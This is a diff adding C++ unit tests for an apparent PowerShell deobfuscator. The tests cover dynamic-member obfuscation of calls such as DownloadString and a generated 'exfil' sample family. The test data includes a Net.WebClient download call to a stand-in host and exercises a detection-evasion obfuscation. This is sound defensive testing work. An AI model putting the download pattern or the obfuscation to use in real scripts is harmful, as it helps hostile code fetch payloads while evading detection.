@@ -1,0 +1,85 @@
+// Tests for dynamic-member obfuscation ($wc.('Download'+'String')($u)) and
+// the exfil corpus family.
+
+#include <gtest/gtest.h>
+
+#include "core/deobfuscator.h"
+#include "corpus/corpus.h"
+#include "obfuscator/obfuscator.h"
+#include "pslang/alias_table.h"
+#include "psast/parser.h"
+#include "psinterp/interpreter.h"
+#include "sandbox/sandbox.h"
+
+namespace ideobf {
+namespace {
+
+bool contains_ci(std::string_view haystack, std::string_view needle) {
+  return ps::to_lower(haystack).find(ps::to_lower(needle)) != std::string::npos;
+}
+
+TEST(MemberObf, RewritesCallSites) {
+  Obfuscator obf(61);
+  const std::string src =
+      "$client = New-Object Net.WebClient\n"
+      "$client.DownloadString('http://m.test/x')\n";
+  const std::string out = obf.obfuscate_member_calls(src);
+  ASSERT_NE(out, src);
+  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;
+  EXPECT_EQ(out.find(".DownloadString("), std::string::npos) << out;
+}
+
+TEST(MemberObf, DynamicMemberExecutes) {
+  ps::Interpreter interp;
+  EXPECT_EQ(interp.evaluate_script("'abXcd'.('Re'+'place')('X','')")
+                .to_display_string(),
+            "abcd");
+}
+
+TEST(MemberObf, BehaviorPreserved) {
+  Obfuscator obf(62);
+  Sandbox sandbox;
+  const std::string src =
+      "$client = New-Object Net.WebClient\n"
+      "$client.DownloadString('http://m.test/x') | Out-Null\n";
+  const std::string out = obf.obfuscate_member_calls(src);
+  EXPECT_TRUE(Sandbox::same_network_behavior(sandbox.run(src), sandbox.run(out)))
+      << out;
+}
+
+TEST(MemberObf, RecoveryReducesMemberExpression) {
+  Obfuscator obf(63);
+  InvokeDeobfuscator deobf;
+  const std::string src = "'hXi'.('Re'+'place')('X','-')";
+  const std::string out = deobf.deobfuscate(src);
+  // Either the whole piece executes to 'h-i' or at least the member
+  // expression reduces to a constant.
+  EXPECT_TRUE(contains_ci(out, "'h-i'") || contains_ci(out, "'Replace'")) << out;
+}
+
+TEST(MemberObf, ShortMembersUntouched) {
+  Obfuscator obf(64);
+  const std::string src = "$s.Trim()";
+  EXPECT_EQ(obf.obfuscate_member_calls(src), src);
+}
+
+TEST(ExfilFamily, RendersAndBehaves) {
+  CorpusGenerator gen(71);
+  Sandbox sandbox;
+  InvokeDeobfuscator deobf;
+  int seen = 0;
+  for (int i = 0; i < 40 && seen < 3; ++i) {
+    const Sample s = gen.generate();
+    if (s.family != "exfil") continue;
+    ++seen;
+    EXPECT_TRUE(ps::is_valid_syntax(s.obfuscated));
+    const BehaviorProfile a = sandbox.run(s.original);
+    const BehaviorProfile b = sandbox.run(deobf.deobfuscate(s.obfuscated));
+    EXPECT_TRUE(a.has_network());
+    EXPECT_TRUE(Sandbox::same_network_behavior(a, b)) << s.obfuscated;
+  }
+  EXPECT_GE(seen, 1);
+}
+
+}  // namespace
+}  // namespace ideobf
